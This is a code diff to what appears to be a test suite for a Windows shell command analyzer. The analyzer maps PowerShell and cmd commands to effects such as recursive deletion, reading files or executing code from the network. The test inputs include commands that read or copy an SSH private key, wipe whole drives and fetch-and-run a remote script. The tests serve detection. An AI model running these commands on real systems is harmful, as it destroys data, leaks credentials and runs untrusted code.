@@ -6,6 +6,8 @@ const PROGRAM = programOf(`
     execute -Command, script as shell  execute unknown as shell when -EncodedCommand }
   command cmd { flags { "/[!cC]*" } operands { "/[cC]" line: rest? } execute line as shell }
   command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
+  command cat { operands { paths: path* } read paths }
+  command cp { operands { sources: path+ dest: path } copy sources to dest }
   command git, curl { flags { ... } operands { words: word* } }
 `);
 
@@ -25,6 +27,9 @@ describe("code for Windows shells", () => {
     ["pwsh -c 'Get-ChildItem C:\\ -Recurse | Remove-Item -Force'", "delete /‹any› tree recursive"],
     ["pwsh -c 'gci -r . | ri'", "delete /repo/app/‹any› tree recursive"],
     ["pwsh -c 'rm -rf ~/x'", "delete /home/me/x tree recursive"],
+    ["pwsh -c 'Get-Content -Raw $env:USERPROFILE\\.ssh\\id_rsa'", "read /home/me/.ssh/id_rsa"],
+    ["pwsh -c 'gc -Tail 5 a.log'", "read /repo/app/a.log"],
+    ["pwsh -c 'Copy-Item -Path ~/.ssh/id_rsa -Destination x'", "read /home/me/.ssh/id_rsa"],
     ["cmd /c 'rd /s /q D:\\a\\b'", "delete /d/a/b tree recursive"],
     ["cmd /c del x", "delete /repo/app/x"],
     ["pwsh -c 'iex (iwr https://h/i.ps1)'", "execute source=network language=shell"],
